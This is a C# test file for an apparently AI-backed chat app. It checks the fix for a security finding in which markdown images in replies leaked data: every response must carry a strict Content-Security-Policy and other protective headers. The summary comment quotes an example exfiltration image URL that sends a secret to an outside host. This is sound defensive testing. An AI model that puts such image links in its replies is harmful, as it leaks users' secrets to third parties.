using System.Net;
using Parley.Tests.Support;

namespace Parley.Tests.Security;

/// <summary>
/// Finding 9: a reply with <c>![x](http://host/leak?secret=…)</c> made the browser fetch it, and no response carried a
/// Content-Security-Policy, frame, sniffing or referrer protection. The policy's img-src now refuses other sites.
/// (The web app's click-to-load placeholder is tested in src/Parley.Web/src/lib/remoteImages.test.ts.)
/// </summary>
public sealed class Finding09MarkdownImageExfiltrationTests
{
    [Theory]
    [InlineData("/")]
    [InlineData("/c/some-conversation")]
    [InlineData("/api/config")]
    [InlineData("/v1/models")]
    [InlineData("/health")]
    [InlineData("/api/no-such-endpoint")]
    public async Task Finding09_every_response_carries_the_security_headers(string path)
    {
        await using var server = await ParleyTestServer.StartAsync();
        using var response = await server.Client.GetAsync(path);
        var csp = Assert.Single(response.Headers.GetValues("Content-Security-Policy"));
        var directives = Directives(csp);
        Assert.Equal("'self' data: blob:", directives["img-src"]);
        Assert.Equal("'self'", directives["script-src"]);
        Assert.Equal("'none'", directives["frame-ancestors"]);
        Assert.Equal("'none'", directives["object-src"]);
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("DENY", Assert.Single(response.Headers.GetValues("X-Frame-Options")));
        Assert.Equal("no-referrer", Assert.Single(response.Headers.GetValues("Referrer-Policy")));
    }

    [Fact]
    public async Task Finding09_remote_images_are_allowed_only_when_the_operator_says_so()
    {
        await using var server = await ParleyTestServer.StartAsync(new Dictionary<string, string?> { ["Parley:Security:RemoteImages"] = "click" });
        using var response = await server.Client.GetAsync("/api/config");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("'self' data: blob: https:", Directives(Assert.Single(response.Headers.GetValues("Content-Security-Policy")))["img-src"]);
        Assert.Contains("\"remoteImages\":\"click\"", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Finding09_the_web_app_has_no_inline_script()
    {
        await using var server = await ParleyTestServer.StartAsync();
        var html = await server.Client.GetStringAsync("/");
        foreach (System.Text.RegularExpressions.Match script in System.Text.RegularExpressions.Regex.Matches(html, "<script([^>]*)>(.*?)</script>", System.Text.RegularExpressions.RegexOptions.Singleline))
        {
            Assert.Contains("src=", script.Groups[1].Value, StringComparison.Ordinal);
            Assert.True(string.IsNullOrWhiteSpace(script.Groups[2].Value), "inline script in index.html: " + script.Value);
        }
    }

    private static Dictionary<string, string> Directives(string csp) =>
        csp.Split(';', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries)
            .Select(d => d.Split(' ', 2))
            .ToDictionary(d => d[0], d => d.Length > 1 ? d[1] : "");
}
